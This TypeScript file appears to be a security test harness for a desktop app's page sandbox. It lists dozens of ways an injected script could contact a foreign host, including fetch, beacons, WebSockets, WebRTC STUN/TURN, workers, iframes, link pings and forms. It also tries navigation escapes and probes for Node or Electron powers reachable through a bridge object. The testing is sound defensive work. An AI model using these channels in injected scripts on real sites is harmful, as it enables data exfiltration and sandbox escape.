/**
 * What a script that was injected into a page would try, each try by a path of its own at the foreign server. Every
 * function here is whole in itself: it runs in the page's own world.
 */

/** Those that leave the page where it is. Resolves when each has had its answer, its refusal or a second. */
export async function reachOut(host: string): Promise<void> {
  const url = (name: string): string => `http://${host}/${name}`;
  const settled = (target: EventTarget): Promise<void> =>
    new Promise((resolve) => {
      for (const name of ['load', 'error', 'open', 'message', 'close', 'loadeddata']) target.addEventListener(name, () => resolve());
    });
  const add = (tag: string, attributes: Record<string, string>): Promise<void> => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    const end = settled(element);
    document.body.append(element);
    return end;
  };
  const addStyle = (text: string): void => {
    const style = document.createElement('style');
    style.textContent = text;
    document.head.append(style);
  };
  const nonce = document.querySelector<HTMLElement>('meta[nonce]')?.nonce;
  const workerText = (name: string): string => `fetch('${url(`${name}-fetch`)}').catch(() => 0).then(() => { try { importScripts('${url(`${name}-import.js`)}'); } catch {} postMessage(1); });`;
  const callPeer = async (server: RTCIceServer): Promise<void> => {
    const peer = new RTCPeerConnection({ iceServers: [server] });
    peer.createDataChannel('words');
    await peer.setLocalDescription();
    await settled(peer);
  };
  const ping = (): void => {
    const link = document.createElement('a');
    link.href = '#here';
    link.ping = url('ping');
    document.body.append(link);
    link.click();
  };
  const tries: (() => unknown)[] = [
    () => fetch(url('fetch')),
    () => fetch(url('fetch-opaque'), { mode: 'no-cors', method: 'POST', body: 'words' }),
    () => fetch(url('fetch-keepalive'), { keepalive: true, mode: 'no-cors' }),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', url('xhr'));
      request.send();
      return settled(request);
    },
    () => navigator.sendBeacon(url('beacon'), 'words'),
    () => settled(new WebSocket(`ws://${host}/socket`)),
    () => settled(new EventSource(url('source.events'))),
    () => add('img', { src: url('image.png') }),
    () => add('img', { srcset: `${url('image-set.png')} 1x` }),
    () => add('link', { rel: 'preload', as: 'script', href: url('preload.js') }),
    () => add('link', { rel: 'modulepreload', href: url('modulepreload.js') }),
    () => add('link', { rel: 'prefetch', href: url('prefetch.js') }),
    () => add('link', { rel: 'preconnect', href: `http://${host}` }),
    () => add('link', { rel: 'stylesheet', href: url('sheet.css') }),
    () => add('script', { src: url('script.js') }),
    () => add('script', { type: 'module', src: url('module.js') }),
    () => import(/* @vite-ignore */ url('import.js')),
    () => addStyle(`@import url('${url('style-import.css')}');`),
    () => {
      // With the nonce that the page's own styles have: a style that is let in still fetches nothing from elsewhere.
      const style = document.createElement('style');
      if (nonce) style.nonce = nonce;
      style.textContent = `@import url('${url('nonce-import.css')}'); @font-face { font-family: elsewhere; src: url('${url('font.woff2')}'); } body { background: url('${url('background.png')}'); font-family: elsewhere, serif; }`;
      document.head.append(style);
    },
    () => new FontFace('elsewhere too', `url('${url('font-face.woff2')}')`).load(),
    () => document.body.style.setProperty('border-image-source', `url('${url('inline-style.png')}')`),
    () => add('iframe', { src: url('frame.html') }),
    () => add('object', { data: url('object.html') }),
    () => add('embed', { src: url('embed.html') }),
    () => add('video', { src: url('video.mp4') }),
    () => add('video', { poster: url('poster.png') }),
    () => add('audio', { src: url('audio.mp3') }),
    () => add('input', { type: 'image', src: url('input.png') }),
    () => {
      document.body.insertAdjacentHTML('beforeend', `<svg><image href="${url('svg.png')}" width="9" height="9"/></svg>`);
    },
    () => settled(new Worker(URL.createObjectURL(new Blob([workerText('blob-worker')])))),
    () => settled(new Worker(`data:text/javascript,${encodeURIComponent(workerText('data-worker'))}`)),
    () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = `<img src="${url('srcdoc.png')}">`;
      document.body.append(frame);
    },
    () => {
      // A document of its own, which has no policy but what it inherits.
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return (frame.contentWindow as Window & typeof globalThis).fetch(url('blank-frame'));
    },
    () => callPeer({ urls: `stun:${host}` }),
    () => callPeer({ urls: `turn:${host}?transport=tcp`, username: 'words', credential: 'words' }),
    ping,
    () => window.open(url('window.html')),
    () => {
      document.body.insertAdjacentHTML('beforeend', `<form target="_blank" method="post" action="${url('form-blank.html')}"></form>`);
      (document.body.lastElementChild as HTMLFormElement).submit();
    },
  ];
  const second = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 1000));
  await Promise.all(
    tries.map(async (attempt) => {
      try {
        await Promise.race([attempt(), second()]);
      } catch {
        // Refused, as it should be; the server says what got through.
      }
    }),
  );
  await second();
}

/** By a peer connection of a frame that has no address and so no policy of its own. Chromium may end the page for it. */
export async function callFromFrame(host: string): Promise<void> {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const peer = new (frame.contentWindow as Window & typeof globalThis).RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
  peer.createDataChannel('words');
  await peer.setLocalDescription();
  await new Promise((resolve) => setTimeout(resolve, 1000));
}

/** What must have arrived where nothing forbids it: else the tries above prove nothing. A page's preconnect is Chromium's to leave out. */
export const WAYS_OUT = [
  'fetch', 'fetch-opaque', 'fetch-keepalive', 'xhr', 'beacon', 'socket', 'source', 'image', 'image-set', 'preload', 'modulepreload', 'prefetch', 'sheet', 'script', 'module', 'import',
  'style-import', 'nonce-import', 'font', 'background', 'font-face', 'inline-style', 'frame', 'object', 'embed', 'video', 'poster', 'audio', 'input', 'svg',
  'blob-worker-fetch', 'blob-worker-import', 'data-worker-fetch', 'data-worker-import', 'srcdoc', 'blank-frame', 'datagram', 'connection', 'ping', 'window', 'form-blank',
] as const;

/** Those that would take the page away or open another; each is tried alone. */
export const NAVIGATIONS = ['location', 'replace', 'link', 'form', 'refresh', 'top', 'open', 'open-noopener', 'link-blank', 'link-blank-opener', 'form-new'] as const;

export function goAway({ host, how }: { host: string; how: (typeof NAVIGATIONS)[number] }): void {
  const target = `http://${host}/${how}.html`;
  const follow = (attributes: { target?: string; rel?: string }): void => {
    const link = Object.assign(document.createElement('a'), { href: target, ...attributes });
    document.body.append(link);
    link.click();
  };
  const submit = (attributes: string): void => {
    document.body.insertAdjacentHTML('beforeend', `<form action="${target}" ${attributes}></form>`);
    (document.body.lastElementChild as HTMLFormElement).submit();
  };
  const ways: Record<typeof how, () => void> = {
    location: () => void (location.href = target),
    replace: () => location.replace(target),
    link: () => follow({}),
    form: () => submit(''),
    refresh: () => document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${target}">`),
    top: () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      frame.contentWindow!.top!.location.href = target;
    },
    open: () => void window.open(target, 'elsewhere', 'width=300,height=200'),
    'open-noopener': () => void window.open(target, '_blank', 'noopener'),
    'link-blank': () => follow({ target: '_blank' }),
    'link-blank-opener': () => follow({ target: '_blank', rel: 'opener' }),
    'form-new': () => submit('target="_blank" method="post"'),
  };
  // Who runs this must hear that it ran, before the page goes.
  setTimeout(ways[how]);
}

/** Names of what a page could get Node or Electron by. */
export function findPowers(): string[] {
  const names = ['require', 'process', 'Buffer', 'module', 'exports', '__dirname', 'global', 'electron', 'ipcRenderer', 'contextBridge', 'webFrame', 'setImmediate', 'clearImmediate'];
  const found = names.filter((name) => name in window);
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const inner = frame.contentWindow as unknown as Record<string, unknown>;
  found.push(...[...names, 'recto'].filter((name) => name in inner).map((name) => `frame.${name}`));
  frame.remove();
  // Whatever is reached from the bridge belongs to the page's own world, or its constructors would lead out of it.
  const walk = (value: unknown, path: string, seen: Set<unknown>): void => {
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) return;
    seen.add(value);
    if (!(value instanceof Object)) found.push(`${path} is of another world`);
    const maker = (value as { constructor?: { constructor?: (code: string) => () => unknown } }).constructor?.constructor;
    try {
      const world = maker?.('return globalThis')() as Record<string, unknown> | undefined;
      if (world && world !== (window as unknown)) found.push(`${path} leads to another world`);
    } catch {
      // The policy lets no text become code.
    }
    for (const key of Reflect.ownKeys(value)) if (key !== 'caller' && key !== 'arguments') walk(Reflect.get(value, key), `${path}.${String(key)}`, seen);
  };
  walk((window as unknown as { recto: unknown }).recto, 'recto', new Set([Object.prototype, Function.prototype, Array.prototype]));
  return found;
}
